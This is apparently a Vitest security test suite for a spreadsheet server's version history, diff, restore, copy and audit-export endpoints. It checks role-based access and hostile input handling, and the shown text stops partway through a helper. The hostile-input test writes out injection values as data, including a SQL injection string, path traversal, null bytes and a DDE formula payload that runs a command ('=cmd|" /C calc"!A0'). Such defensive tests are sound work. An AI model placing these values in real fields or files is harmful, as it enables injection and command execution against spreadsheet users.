// @vitest-environment node
/**
 * Security review of the history/audit feature against the real server (SQLite; a few PostgreSQL
 * probes at the end), as an attacker holding each kind of link: owner, editor, viewer, a revoked link,
 * another workbook's owner, a made-up token and none.
 *
 * Endpoints probed: GET/POST …/versions, GET …/versions/:vid/state, GET …/diff, POST …/versions/:vid/restore,
 * POST …/versions/:vid/copy (with and without a create secret), GET …/audit (json, csv, xlsx),
 * GET …/audit/verify, GET …/export.json?since=.
 *
 * Each finding of the first probe that was a bug is a test of the fixed behaviour here.
 */
import { describe, expect, it } from 'vitest'
import * as Y from 'yjs'
import ExcelJS from 'exceljs'
import { accessOf, lockKey, lockSheet, setProtections } from '../../src/core/access/access'
import { metaOf, sheetIds, sheetsOf, visibleColIds } from '../../src/core/workbook/schema'
import { insertCols, insertRows, setCell } from '../../src/core/workbook/mutations'
import { WorkbookLayout } from '../../src/core/workbook/layout'
import { parseA1 } from '../../src/core/formulas/references'
import type { ServerOptions } from '../../server/index'
import { createLink, createWorkbook, docUntil, nextEvent, ownerTokens, syncedClient, testScope, until, type Client, type TestServer } from '../helpers/server'
import { freshPostgres } from '../helpers/services'
import { unzipped } from '../helpers/zip'
import { textAt, type } from '../helpers/workbook'

const { cleanups, server, track } = testScope()

// ── helpers ───────────────────────────────────────────────────────────────────────────────────────

interface Reply { status: number; headers: Headers; text: string; json: any; buf: Buffer }

/** A request with exactly this token (null: none at all), unlike `s.api`, which adds the owner's. */
async function call(s: TestServer, method: string, path: string, token: string | null, opts: { body?: unknown; raw?: string; headers?: Record<string, string> } = {}): Promise<Reply> {
  const hasBody = opts.body !== undefined || opts.raw !== undefined
  const res = await fetch(s.url + path, {
    method,
    headers: { ...(hasBody ? { 'content-type': 'application/json' } : {}), ...(token ? { authorization: `Bearer ${token}` } : {}), ...opts.headers },
    body: opts.raw ?? (opts.body === undefined ? undefined : JSON.stringify(opts.body)),
  })
  const buf = Buffer.from(await res.arrayBuffer())
  const text = buf.toString('utf8')
  let json: unknown
  try { json = text ? JSON.parse(text) : undefined } catch { json = undefined }
  return { status: res.status, headers: res.headers, text, json, buf }
}

function auditWatch(s: TestServer) {
  let count = 0
  s.rooms.on('audited', (_id: string, info: { entries: number }) => { count += info.entries })
  return {
    get count() { return count },
    atLeast: (n: number) => until(`${n} audit entries`, () => count >= n, recheck => { s.rooms.on('audited', recheck); return () => { s.rooms.off('audited', recheck) } }),
  }
}

const client = async (s: TestServer, id: string, token?: string): Promise<Client> => track(await syncedClient(s, id, token === undefined ? {} : { token }))
const sheetOf = (c: Client) => sheetIds(c.doc)[0]!

/** Writes a raw input (a string stays a string, even "=…") into a visible cell. */
function put(doc: Y.Doc, sheetId: string, addr: string, value: unknown): void {
  const l = new WorkbookLayout(doc).sheet(sheetId)!
  const p = parseA1(addr)!
  setCell(doc, sheetId, l.rows.ids[p.row]!, l.cols.ids[p.col]!, value as never)
}

/** The next time the server closes this client's socket. */
const serverClose = (c: Client) =>
  nextEvent<[{ code: number; reason: string } | null]>(c.provider as never, 'connection-close', e => e !== null).then(([e]) => ({ code: e!.code, reason: e!.reason }))

/** The server still answers, and never logged an unhandled error (a 500) in this test. */
async function stillServing(s: TestServer, id: string, token = ownerTokens.get(id)!): Promise<void> {
  expect((await call(s, 'GET', `/api/workbooks/${id}`, token)).status).toBe(200)
  expect((await call(s, 'GET', `/api/workbooks/${id}/versions`, token)).status).toBe(200)
  expect(s.log.lines.filter(l => l.startsWith('error'))).toEqual([])
}

/** A small RFC 4180 reader. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = []
  let row: string[] = [], field = '', quoted = false
  const t = text.replace(/^\uFEFF/, '')
  for (let i = 0; i < t.length; i++) {
    const ch = t[i]!
    if (quoted) {
      if (ch === '"' && t[i + 1] === '"') { field += '"'; i++ } else if (ch === '"') quoted = false
      else field += ch
    } else if (ch === '"') quoted = true
    else if (ch === ',') { row.push(field); field = '' } else if (ch === '\r' && t[i + 1] === '\n') { row.push(field); rows.push(row); row = []; field = ''; i++ } else field += ch
  }
  if (field !== '' || row.length) { row.push(field); rows.push(row) }
  return rows
}

/**
 * A workbook with an owner, an editor, a viewer and a revoked link, a named version `v1` with A1 set,
 * and a second workbook (its own owner and version `v2`).
 */
async function fixture(opts: ServerOptions = {}) {
  const s = await server({ maxAuthFailures: 1_000_000, ...opts })
  const audit = auditWatch(s)
  const id = await createWorkbook(s, { name: '老板' })
  const owner = ownerTokens.get(id)!
  const editor = await createLink(s, id, 'editor', '小李')
  const viewer = await createLink(s, id, 'viewer', '访客')
  const made = await s.api('POST', `/api/workbooks/${id}/links`, { role: 'editor', name: '离职的人' })
  expect(made.status).toBe(201)
  expect((await s.api('DELETE', `/api/workbooks/${id}/links/${made.json.id}`)).status).toBe(200)
  const revoked = made.json.token as string
  const id2 = await createWorkbook(s, { name: '外人' })
  const other = ownerTokens.get(id2)!
  const ownerClient = await client(s, id)
  const sid = sheetOf(ownerClient)
  const before = audit.count
  type(ownerClient.doc, sid, 'A1', '1')
  await audit.atLeast(before + 1)
  const v1 = (await call(s, 'POST', `/api/workbooks/${id}/versions`, owner, { body: { name: 'v1' } })).json.id as string
  const v2 = (await call(s, 'POST', `/api/workbooks/${id2}/versions`, other, { body: { name: 'v2' } })).json.id as string
  expect(v1).toBeTruthy()
  expect(v2).toBeTruthy()
  return { s, audit, id, id2, owner, editor, viewer, revoked, other, ownerClient, sid, v1, v2 }
}

// ── who may do what ───────────────────────────────────────────────────────────────────────────────

describe('history endpoints by kind of link', () => {
  it('answers each kind of link on every endpoint as its role allows (401 without a token, 403 revoked or foreign)', async () => {
    const f = await fixture()
    const { s, id, v1 } = f
    type Probe = { name: string; method: string; path: string; body?: unknown; write: 'read' | 'save' | 'restore' | 'copy' }
    // each save has a name of its own (a name is one version's)
    let saved = 0
    const probes: Probe[] = [
      { name: 'GET versions', method: 'GET', path: `/api/workbooks/${id}/versions`, write: 'read' },
      { name: 'POST versions', method: 'POST', path: `/api/workbooks/${id}/versions`, body: () => ({ name: `probe ${++saved}` }), write: 'save' },
      { name: 'GET state', method: 'GET', path: `/api/workbooks/${id}/versions/${v1}/state`, write: 'read' },
      { name: 'GET diff', method: 'GET', path: `/api/workbooks/${id}/diff?from=${v1}&to=current`, write: 'read' },
      { name: 'POST restore', method: 'POST', path: `/api/workbooks/${id}/versions/${v1}/restore`, body: {}, write: 'restore' },
      { name: 'POST copy', method: 'POST', path: `/api/workbooks/${id}/versions/${v1}/copy`, write: 'copy' },
      { name: 'GET audit', method: 'GET', path: `/api/workbooks/${id}/audit`, write: 'read' },
      { name: 'GET audit csv', method: 'GET', path: `/api/workbooks/${id}/audit?format=csv`, write: 'read' },
      { name: 'GET audit xlsx', method: 'GET', path: `/api/workbooks/${id}/audit?format=xlsx`, write: 'read' },
      { name: 'GET verify', method: 'GET', path: `/api/workbooks/${id}/audit/verify`, write: 'read' },
      { name: 'GET export.json?since', method: 'GET', path: `/api/workbooks/${id}/export.json?since=${v1}`, write: 'read' },
    ]
    const ok = { read: 200, save: 201, restore: 200, copy: 201 }
    const kinds: [string, string | null, (p: Probe) => number][] = [
      ['owner', f.owner, p => ok[p.write]],
      ['editor', f.editor, p => ok[p.write]],
      ['viewer', f.viewer, p => (p.write === 'read' ? 200 : 403)],
      ['revoked', f.revoked, () => 403],
      ["another workbook's owner", f.other, () => 403],
      ['made-up token', 'A'.repeat(32), () => 401],
      ['no token', null, () => 401],
    ]
    const seen: string[] = [], expected: string[] = []
    for (const [kind, token, want] of kinds) {
      for (const p of probes) {
        const r = await call(s, p.method, p.path, token, { body: typeof p.body === 'function' ? (p.body as () => unknown)() : p.body })
        seen.push(`${kind} ${p.name} → ${r.status}`)
        expected.push(`${kind} ${p.name} → ${want(p)}`)
        if (r.status >= 400) expect(typeof r.json?.error).toBe('string')
      }
    }
    expect(seen).toEqual(expected)
    // the token may also come as ?token= (page URLs): the same answers
    expect((await call(s, 'GET', `/api/workbooks/${id}/audit?token=${f.revoked}`, null)).status).toBe(403)
    expect((await call(s, 'GET', `/api/workbooks/${id}/audit?token=${f.viewer}`, null)).status).toBe(200)
    expect((await call(s, 'POST', `/api/workbooks/${id}/versions/${v1}/restore?token=${f.viewer}`, null, { body: {} })).status).toBe(403)
    await stillServing(s, id)
  })

  it("never serves, diffs, restores, copies or reports since another workbook's version", async () => {
    const { s, id, id2, owner, other, v1, v2 } = await fixture()
    const mine: [string, string, string][] = [
      ['GET', `/api/workbooks/${id}/versions/${v2}/state`, owner],
      ['GET', `/api/workbooks/${id}/diff?from=${v2}`, owner],
      ['GET', `/api/workbooks/${id}/diff?from=${v1}&to=${v2}`, owner],
      ['POST', `/api/workbooks/${id}/versions/${v2}/restore`, owner],
      ['POST', `/api/workbooks/${id}/versions/${v2}/copy`, owner],
      ['GET', `/api/workbooks/${id}/export.json?since=${v2}`, owner],
      // the other way round: W2's owner asks about W1's version through W2
      ['GET', `/api/workbooks/${id2}/versions/${v1}/state`, other],
      ['GET', `/api/workbooks/${id2}/diff?from=${v2}&to=${v1}`, other],
      ['POST', `/api/workbooks/${id2}/versions/${v1}/restore`, other],
      ['POST', `/api/workbooks/${id2}/versions/${v1}/copy`, other],
      ['GET', `/api/workbooks/${id2}/export.json?since=${v1}`, other],
    ]
    for (const [method, path, token] of mine) {
      const r = await call(s, method, path, token, method === 'POST' ? { body: {} } : {})
      expect(`${method} ${path} → ${r.status}`).toBe(`${method} ${path} → 404`)
    }
    // W1's version list is not W2's
    const list2 = (await call(s, 'GET', `/api/workbooks/${id2}/versions`, other)).json as { id: string }[]
    expect(list2.map(v => v.id)).toEqual([v2])
    await stillServing(s, id)
    await stillServing(s, id2, other)
  })
})

// ── hostile input ─────────────────────────────────────────────────────────────────────────────────

describe('hostile input', () => {
  it('answers odd and very long version ids, hostile query values and bad bodies with 4xx, never 500, and keeps serving', async () => {
    const { s, id, owner, sid, v1, v2, ownerClient } = await fixture()
    const l = new WorkbookLayout(ownerClient.doc).sheet(sid)!
    const rowId = l.rows.ids[0]!, colId = l.cols.ids[0]!
    const W = `/api/workbooks/${id}`
    const probes: [string, string, { body?: unknown; raw?: string } | undefined, number][] = [
      // version and workbook ids
      ['GET', `${W}/versions/${'a'.repeat(129)}/state`, undefined, 404],
      ['GET', `${W}/versions/${'a'.repeat(5000)}/state`, undefined, 404],
      ['GET', `${W}/versions/a%2Fb/state`, undefined, 404],
      ['GET', `${W}/versions/%ZZ/state`, undefined, 404],
      ['GET', `${W}/versions/${encodeURIComponent("' OR 1=1 --")}/state`, undefined, 404],
      ['GET', `${W}/versions/${encodeURIComponent('版本')}/state`, undefined, 404],
      ['GET', `${W}/versions/${encodeURIComponent('a\u0000b')}/state`, undefined, 404],
      ['GET', `${W}/versions/nope123/state`, undefined, 404],
      ['POST', `${W}/versions/${'a'.repeat(129)}/restore`, { body: {} }, 404],
      ['POST', `${W}/versions/%ZZ/copy`, undefined, 404],
      ['POST', `${W}/versions/nope123/copy`, undefined, 404],
      ['GET', `/api/workbooks/${'w'.repeat(129)}/versions`, undefined, 404],
      ['GET', `/api/workbooks/${encodeURIComponent('../' + id)}/versions`, undefined, 404],
      // diff
      ['GET', `${W}/diff`, undefined, 400],
      ['GET', `${W}/diff?from=`, undefined, 400],
      ['GET', `${W}/diff?from=${'a'.repeat(65)}`, undefined, 400],
      ['GET', `${W}/diff?from=a%20b`, undefined, 400],
      ['GET', `${W}/diff?from=current`, undefined, 404],
      ['GET', `${W}/diff?from=${v1}&values=2`, undefined, 400],
      ['GET', `${W}/diff?from=${v1}&to=..%2Fx`, undefined, 400],
      ['GET', `${W}/diff?from=${v1}&to=${v2}`, undefined, 404],
      ['GET', `${W}/diff?from=${v1}&from=${v2}`, undefined, 200],
      // audit: limit, since, after
      ['GET', `${W}/audit?limit=-1`, undefined, 400],
      ['GET', `${W}/audit?limit=abc`, undefined, 400],
      ['GET', `${W}/audit?limit=0`, undefined, 400],
      ['GET', `${W}/audit?limit=1.5`, undefined, 400],
      ['GET', `${W}/audit?limit=10001`, undefined, 400],
      ['GET', `${W}/audit?limit=1e400`, undefined, 400],
      ['GET', `${W}/audit?limit=`, undefined, 400],
      ['GET', `${W}/audit?limit=5`, undefined, 200],
      ['GET', `${W}/audit?since=1e400`, undefined, 400],
      ['GET', `${W}/audit?since=-1`, undefined, 400],
      ['GET', `${W}/audit?since=abc`, undefined, 400],
      ['GET', `${W}/audit?since=9007199254740993`, undefined, 400],
      ['GET', `${W}/audit?since=9007199254740991`, undefined, 200],
      ['GET', `${W}/audit?after=-1`, undefined, 400],
      ['GET', `${W}/audit?after=1e400`, undefined, 400],
      ['GET', `${W}/audit?after=3000000000`, undefined, 400],
      // audit: cell, by, sheet, format
      ['GET', `${W}/audit?sheet=${sid}&cell=ZZZZ99999999`, undefined, 400],
      ['GET', `${W}/audit?sheet=${sid}&cell=ZZZ9999999`, undefined, 404],
      ['GET', `${W}/audit?cell=A1`, undefined, 400],
      ['GET', `${W}/audit?sheet=${sid}&cell=A0`, undefined, 400],
      ['GET', `${W}/audit?sheet=nosuch&cell=A1`, undefined, 404],
      ['GET', `${W}/audit?cell=a:b:c`, undefined, 400],
      ['GET', `${W}/audit?cell=${'r'.repeat(65)}:c`, undefined, 400],
      ['GET', `${W}/audit?cell=${rowId}:${colId}`, undefined, 200],
      ['GET', `${W}/audit?by=${'x'.repeat(10 * 1024)}`, undefined, 400],
      ['GET', `${W}/audit?by=%00`, undefined, 400],
      ['GET', `${W}/audit?sheet=..%2Fx`, undefined, 400],
      ['GET', `${W}/audit?sheet=${'s'.repeat(65)}`, undefined, 400],
      ['GET', `${W}/audit?format=pdf`, undefined, 400],
      ['GET', `${W}/audit?format=CSV`, undefined, 400],
      ['GET', `${W}/audit/verify?limit=-1&after=x`, undefined, 200],
      // restore bodies
      ['POST', `${W}/versions/${v1}/restore`, { raw: 'not json' }, 400],
      ['POST', `${W}/versions/${v1}/restore`, { raw: '[]' }, 400],
      ['POST', `${W}/versions/${v1}/restore`, { raw: '[{"sheetId":"x"}]' }, 400],
      ['POST', `${W}/versions/${v1}/restore`, { raw: 'null' }, 400],
      ['POST', `${W}/versions/${v1}/restore`, { raw: '"text"' }, 400],
      ['POST', `${W}/versions/${v1}/restore`, { raw: '['.repeat(200_000) }, 400],
      ['POST', `${W}/versions/${v1}/restore`, { body: { sheetId: 123 } }, 400],
      ['POST', `${W}/versions/${v1}/restore`, { body: { cell: 'A1' } }, 400],
      ['POST', `${W}/versions/${v1}/restore`, { body: { sheetId: 's'.repeat(65) } }, 400],
      ['POST', `${W}/versions/${v1}/restore`, { body: { sheetId: sid, cell: 'ZZZZ99999999' } }, 400],
      ['POST', `${W}/versions/${v1}/restore`, { body: { sheetId: sid, cell: 'A1:B2' } }, 400],
      ['POST', `${W}/versions/${v1}/restore`, { body: { sheetId: sid, cell: `${rowId}:${colId}` } }, 400],
      ['POST', `${W}/versions/${v1}/restore`, { body: { sheetId: sid, cell: 'ZZZ9999999' } }, 404],
      ['POST', `${W}/versions/${v1}/restore`, { body: { sheetId: 'nosuch' } }, 200],
      ['POST', `${W}/versions/${v1}/restore`, { body: { sheetId: '__proto__' } }, 200],
      ['POST', `${W}/versions/${v1}/restore`, { raw: 'x'.repeat(2 * 1024 * 1024) }, 413],
      // new versions
      ['POST', `${W}/versions`, { raw: 'not json' }, 400],
      ['POST', `${W}/versions`, { raw: '[]' }, 400],
      ['POST', `${W}/versions`, { raw: '[{"name":"x"}]' }, 400],
      ['POST', `${W}/versions`, undefined, 400],
      ['POST', `${W}/versions`, { body: {} }, 400],
      ['POST', `${W}/versions`, { body: { name: '' } }, 400],
      ['POST', `${W}/versions`, { body: { name: '\u0000\u0001\u001f' } }, 400],
      ['POST', `${W}/versions`, { body: { name: ['a'] } }, 400],
      ['POST', `${W}/versions`, { body: { name: 5 } }, 400],
      ['POST', `${W}/versions`, { body: { name: 'x'.repeat(101) } }, 400],
      ['POST', `${W}/versions`, { body: { name: '名'.repeat(500_000) } }, 413],
      ['POST', `${W}/versions`, { body: { name: 'x'.repeat(100) } }, 201],
      ['POST', `${W}/versions`, { body: { name: '=cmd|" /C calc"!A0' } }, 201],
      // the review pack's since
      ['GET', `${W}/export.json?since=`, undefined, 400],
      ['GET', `${W}/export.json?since=${'a'.repeat(65)}`, undefined, 400],
      ['GET', `${W}/export.json?since=..%2Fx`, undefined, 400],
      ['GET', `${W}/export.json?since=nope123`, undefined, 404],
      ['GET', `${W}/export.json?since=${v2}`, undefined, 404],
      ['GET', `${W}/export.json?since=${v1}`, undefined, 200],
    ]
    const seen: string[] = [], expected: string[] = []
    for (const [method, path, opts, want] of probes) {
      const r = await call(s, method, path, owner, opts ?? {})
      const label = `${method} ${path.length > 120 ? path.slice(0, 120) + '…' : path}${opts?.raw !== undefined ? ` raw:${opts.raw.slice(0, 30)}` : opts?.body !== undefined ? ` body:${JSON.stringify(opts.body).slice(0, 60)}` : ''}`
      seen.push(`${label} → ${r.status}`)
      expected.push(`${label} → ${want}`)
      expect(r.status).not.toBe(500)
    }
    expect(seen).toEqual(expected)
    // a name with a formula's look is kept as text
    const list = (await call(s, 'GET', `${W}/versions`, owner)).json as { name: string }[]
    expect(list.map(v => v.name)).toContain('=cmd|" /C calc"!A0')
    await stillServing(s, id)
  })

  it("filters the trail by rowId:colId within this workbook only (another sheet's ids, another workbook's ids)", async () => {
    const { s, audit, id, id2, owner, other, sid, ownerClient } = await fixture()
    const { addSheet } = await import('../../src/core/workbook/mutations')
    const second = addSheet(ownerClient.doc, { name: '预算' })
    const seen = audit.count
    type(ownerClient.doc, second, 'B2', 'secret-of-sheet-2')
    await audit.atLeast(seen + 2)
    const l2 = new WorkbookLayout(ownerClient.doc).sheet(second)!
    const key = `${l2.rows.ids[1]}:${l2.cols.ids[1]}`
    // the cell of the second sheet by its ids: its entries, nothing else
    const all = (await call(s, 'GET', `/api/workbooks/${id}/audit?cell=${key}`, owner)).json as { sheet: string; after: unknown }[]
    expect(all.length).toBe(1)
    expect(all[0]).toMatchObject({ sheet: second, after: 'secret-of-sheet-2' })
    // the same ids with the first sheet: nothing
    expect((await call(s, 'GET', `/api/workbooks/${id}/audit?sheet=${sid}&cell=${key}`, owner)).json).toEqual([])
    // the same ids asked through another workbook: nothing of this one
    const foreign = await call(s, 'GET', `/api/workbooks/${id2}/audit?cell=${key}`, other)
    expect(foreign.status).toBe(200)
    expect(foreign.json).toEqual([])
    const everything = (await call(s, 'GET', `/api/workbooks/${id2}/audit`, other)).text
    expect(everything).not.toContain('secret-of-sheet-2')
    await stillServing(s, id)
  })
})

// ── the owner's switch for view-only links ────────────────────────────────────────────────────────

describe('historyViewers', () => {
  it("keeps a viewer out of every history endpoint once the owner turns it off, and refuses an editor's or a viewer's attempt to turn it back", async () => {
    const { s, audit, id, owner, editor, viewer, sid, v1, ownerClient } = await fixture()
    const viewerClient = await client(s, id, viewer)
    metaOf(ownerClient.doc).set('historyViewers', false)
    await docUntil(viewerClient.doc, 'the setting reaches the viewer', d => metaOf(d).get('historyViewers') === false)
    const W = `/api/workbooks/${id}`
    const reads = [`${W}/versions`, `${W}/versions/${v1}/state`, `${W}/diff?from=${v1}`, `${W}/audit`, `${W}/audit?format=csv`, `${W}/audit?format=xlsx`, `${W}/audit/verify`, `${W}/export.json?since=${v1}`]
    for (const path of reads) {
      const r = await call(s, 'GET', path, viewer)
      expect(`${path} → ${r.status}`).toBe(`${path} → 403`)
      expect(r.text).not.toContain('"hash"')
      // owners and editors still read it
      expect((await call(s, 'GET', path, editor)).status).toBe(200)
    }
    // the review pack without `since`: served, without the history's parts
    const pack = await call(s, 'GET', `${W}/export.json`, viewer)
    expect(pack.status).toBe(200)
    expect(pack.json.changes).toBeUndefined()

    // an editor may not switch it back on: refused with history-owner-only, recorded with its author
    const editorClient = await client(s, id, editor)
    const refused = serverClose(editorClient)
    const seen = audit.count
    metaOf(editorClient.doc).set('historyViewers', true)
    expect(await refused).toEqual({ code: 4409, reason: 'history-owner-only' })
    await audit.atLeast(seen + 1)
    const trail = (await call(s, 'GET', `${W}/audit`, owner)).json as { action: string; by: string; detail: string }[]
    expect(trail.filter(e => e.action === 'refused')).toEqual([expect.objectContaining({ by: '小李', detail: 'history-owner-only' })])

    // nor delete the key (that would mean "on" too)
    const editor2 = await client(s, id, editor)
    const refused2 = serverClose(editor2)
    metaOf(editor2.doc).delete('historyViewers')
    expect(await refused2).toEqual({ code: 4409, reason: 'history-owner-only' })

    // a viewer's attempt is dropped
    metaOf(viewerClient.doc).set('historyViewers', true)
    type(ownerClient.doc, sid, 'C3', 'after the attempts')
    const fresh = await client(s, id)
    expect(textAt(fresh.doc, sid, 'C3')).toBe('after the attempts')
    expect(metaOf(fresh.doc).get('historyViewers')).toBe(false)
    expect((await call(s, 'GET', `${W}/versions`, viewer)).status).toBe(403)

    // an editor may not turn it off either (when it is on)
    metaOf(ownerClient.doc).set('historyViewers', true)
    await docUntil(fresh.doc, 'on again', d => metaOf(d).get('historyViewers') === true)
    expect((await call(s, 'GET', `${W}/versions`, viewer)).status).toBe(200)
    const editor3 = await client(s, id, editor)
    const refused3 = serverClose(editor3)
    metaOf(editor3.doc).set('historyViewers', false)
    expect(await refused3).toEqual({ code: 4409, reason: 'history-owner-only' })
    expect((await call(s, 'GET', `${W}/versions`, viewer)).status).toBe(200)
    await stillServing(s, id)
  })

  it("keeps a named version's values from a viewer the owner keeps from the history, also through BASELINE() in the exports", async () => {
    const { s, audit, id, viewer, sid, ownerClient } = await fixture()
    const viewerClient = await client(s, id, viewer)
    type(ownerClient.doc, sid, 'A1', '100')
    await docUntil(viewerClient.doc, 'A1', d => textAt(d, sid, 'A1') === '100')
    expect((await s.api('POST', `/api/workbooks/${id}/versions`, { name: 'Q3 目标' })).status).toBe(201)
    type(ownerClient.doc, sid, 'A1', '130')
    type(ownerClient.doc, sid, 'B1', '=BASELINE("Q3 目标", A1)')
    metaOf(ownerClient.doc).set('historyViewers', false)
    await docUntil(viewerClient.doc, 'the formula and the setting', d => metaOf(d).get('historyViewers') === false && textAt(d, sid, 'B1') !== '')
    void audit
    // the page cannot load the version for this viewer (403), so its B1 shows #N/A …
    expect((await call(s, 'GET', `/api/workbooks/${id}/versions`, viewer)).status).toBe(403)
    // … but the review pack and the .xlsx computed on the server hand over the version's value
    const pack = await call(s, 'GET', `/api/workbooks/${id}/export.json`, viewer)
    expect(pack.status).toBe(200)
    const shown = pack.json.sheets.find((x: { id: string }) => x.id === sid).rows[0].slice(0, 2)
    const xlsx = await call(s, 'GET', `/api/workbooks/${id}/export.xlsx`, viewer)
    const wb = new ExcelJS.Workbook()
    await wb.xlsx.load(xlsx.buf as never)
    const values: unknown[] = []
    wb.worksheets[0]!.eachRow(r => { values.push(r.getCell(2).value) })
    const leaked = { pack: shown[1], xlsx: values.some(v => v === 100 || (v as { result?: unknown } | null)?.result === 100) }
    expect(leaked).toEqual({ pack: expect.not.stringMatching(/^100$/), xlsx: false })
  })
})

// ── restore by an editor under protections and locks ──────────────────────────────────────────────

describe("an editor's restore", () => {
  async function protectedSetup() {
    const s = await server()
    const id = await createWorkbook(s, { name: '老板' })
    const editorToken = await createLink(s, id, 'editor', '小李')
    const owner = await client(s, id)
    const editor = await client(s, id, editorToken)
    const sid = sheetOf(owner)
    const cols = visibleColIds(sheetsOf(owner.doc).get(sid)!)
    // column B: the owner's only
    setProtections(owner.doc, [{ id: 'pB', sheet: sid, cols: [cols[1]!] }])
    type(owner.doc, sid, 'A1', 'old-a')
    type(owner.doc, sid, 'B1', 'old-b')
    await docUntil(editor.doc, 'the first inputs', d => textAt(d, sid, 'B1') === 'old-b' && accessOf(d).get('protections') !== undefined)
    const vid = (await s.api('POST', `/api/workbooks/${id}/versions`, { name: 'before' })).json.id as string
    return { s, id, editorToken, owner, editor, sid, cols, vid }
  }

  it('keeps protected cells, reports them as skipped, and restores the rest', async () => {
    const { s, id, editorToken, owner, editor, sid, cols, vid } = await protectedSetup()
    type(owner.doc, sid, 'A1', 'new-a')
    type(owner.doc, sid, 'B1', 'new-b')
    await docUntil(editor.doc, 'the later inputs', d => textAt(d, sid, 'B1') === 'new-b' && textAt(d, sid, 'A1') === 'new-a')
    const r = await call(s, 'POST', `/api/workbooks/${id}/versions/${vid}/restore`, editorToken, { body: {} })
    expect(r.status).toBe(200)
    expect(r.json.changed).toBe(1)
    expect(r.json.skipped).toEqual([expect.objectContaining({ sheetId: sid, colId: cols[1], code: 'protected', cell: 'B1' })])
    const fresh = await client(s, id)
    expect([textAt(fresh.doc, sid, 'A1'), textAt(fresh.doc, sid, 'B1')]).toEqual(['old-a', 'new-b'])
    // one protected cell asked for by address: nothing written, the cell reported
    const one = await call(s, 'POST', `/api/workbooks/${id}/versions/${vid}/restore`, editorToken, { body: { sheetId: sid, cell: 'B1' } })
    expect(one.status).toBe(200)
    expect(one.json).toMatchObject({ changed: 0, skipped: [expect.objectContaining({ cell: 'B1', code: 'protected' })] })
    const fresh2 = await client(s, id)
    expect(textAt(fresh2.doc, sid, 'B1')).toBe('new-b')
    await stillServing(s, id)
  })

  it('changes nothing on a locked sheet and reports every cell as locked', async () => {
    const { s, id, editorToken, owner, editor, sid, vid } = await protectedSetup()
    type(owner.doc, sid, 'A1', 'new-a')
    type(owner.doc, sid, 'C5', 'new-c')
    lockSheet(owner.doc, sid, '老板')
    await docUntil(editor.doc, 'the lock', d => accessOf(d).get(lockKey(sid)) !== undefined && textAt(d, sid, 'C5') === 'new-c')
    const r = await call(s, 'POST', `/api/workbooks/${id}/versions/${vid}/restore`, editorToken, { body: {} })
    expect(r.status).toBe(200)
    expect(r.json.changed).toBe(0)
    expect(r.json.skipped.length).toBeGreaterThan(0)
    expect(new Set(r.json.skipped.map((x: { code: string }) => x.code))).toEqual(new Set(['locked']))
    const cell = await call(s, 'POST', `/api/workbooks/${id}/versions/${vid}/restore`, editorToken, { body: { sheetId: sid, cell: 'A1' } })
    expect(cell.json).toMatchObject({ changed: 0, skipped: [expect.objectContaining({ cell: 'A1', code: 'locked' })] })
    const fresh = await client(s, id)
    expect([textAt(fresh.doc, sid, 'A1'), textAt(fresh.doc, sid, 'C5')]).toEqual(['new-a', 'new-c'])
    await stillServing(s, id)
  })

  it('keeps a row inserted since that holds a protected cell, as skipped, and restores the rest', async () => {
    const { s, id, editorToken, owner, editor, sid, vid } = await protectedSetup()
    const [newRow] = insertRows(owner.doc, sid, 1, 1)
    type(owner.doc, sid, 'B2', 'owner-only')
    type(owner.doc, sid, 'A1', 'new-a')
    await docUntil(editor.doc, 'the inserted row', d => textAt(d, sid, 'B2') === 'owner-only' && textAt(d, sid, 'A1') === 'new-a')
    const r = await call(s, 'POST', `/api/workbooks/${id}/versions/${vid}/restore`, editorToken, { body: {} })
    const fresh = await client(s, id)
    // nothing the editor may not do was applied, whatever the answer
    expect(textAt(fresh.doc, sid, 'B2')).toBe('owner-only')
    expect({ status: r.status, body: r.json }).toEqual({
      status: 200,
      body: expect.objectContaining({ skipped: expect.arrayContaining([expect.objectContaining({ sheetId: sid, code: 'protected', rowId: newRow })]) }),
    })
    expect(textAt(fresh.doc, sid, 'A1')).toBe('old-a')
  })

  it('keeps a protected column inserted since, as skipped, and restores the rest', async () => {
    const { s, id, editorToken, owner, editor, sid, cols, vid } = await protectedSetup()
    const [newCol] = insertCols(owner.doc, sid, 2, 1)
    setProtections(owner.doc, [{ id: 'pB', sheet: sid, cols: [cols[1]!] }, { id: 'pNew', sheet: sid, cols: [newCol!] }])
    type(owner.doc, sid, 'A1', 'new-a')
    await docUntil(editor.doc, 'the new column', d => textAt(d, sid, 'A1') === 'new-a' && visibleColIds(sheetsOf(d).get(sid)!).includes(newCol!)
      && JSON.stringify(accessOf(d).get('protections')).includes('pNew'))
    const r = await call(s, 'POST', `/api/workbooks/${id}/versions/${vid}/restore`, editorToken, { body: {} })
    const fresh = await client(s, id)
    expect(visibleColIds(sheetsOf(fresh.doc).get(sid)!)).toContain(newCol)
    expect({ status: r.status, body: r.json }).toEqual({
      status: 200,
      body: expect.objectContaining({ skipped: expect.arrayContaining([expect.objectContaining({ sheetId: sid, code: 'protected' })]) }),
    })
    expect(textAt(fresh.doc, sid, 'A1')).toBe('old-a')
  })
})

// ── copy and the create secret ────────────────────────────────────────────────────────────────────

describe('copying a version into a new workbook', () => {
  it('without a create secret: writers get a new workbook of their own, whose links are new; viewers are refused', async () => {
    const { s, id, editor, viewer, v1 } = await fixture()
    expect((await call(s, 'POST', `/api/workbooks/${id}/versions/${v1}/copy`, viewer)).status).toBe(403)
    const r = await call(s, 'POST', `/api/workbooks/${id}/versions/${v1}/copy`, editor, { raw: 'not json even' })
    expect(r.status).toBe(201)
    expect(r.json.id).not.toBe(id)
    expect(r.json.you).toMatchObject({ role: 'owner', name: '小李' })
    // the old workbook's links do not open the copy; the copy's token does not open the old one
    expect((await call(s, 'GET', `/api/workbooks/${r.json.id}`, editor)).status).toBe(403)
    expect((await call(s, 'GET', `/api/workbooks/${r.json.id}`, r.json.token)).status).toBe(200)
    expect((await call(s, 'GET', `/api/workbooks/${id}/versions`, r.json.token)).status).toBe(403)
    // the copy has no history of the original
    expect((await call(s, 'GET', `/api/workbooks/${r.json.id}/versions`, r.json.token)).json).toEqual([])
    expect((await call(s, 'GET', `/api/workbooks/${r.json.id}/audit`, r.json.token)).json.some((e: { by: string }) => e.by === '访客')).toBe(false)
    await stillServing(s, id)
  })

  async function secretServer(maxAuthFailures: number) {
    const secret = 'create-secret-' + 'x'.repeat(20)
    const s = await server({ createSecret: secret, maxAuthFailures })
    const made = await s.api('POST', '/api/workbooks', { name: '老板' }, { headers: { authorization: `Bearer ${secret}` } })
    expect(made.status).toBe(201)
    const id = made.json.id as string
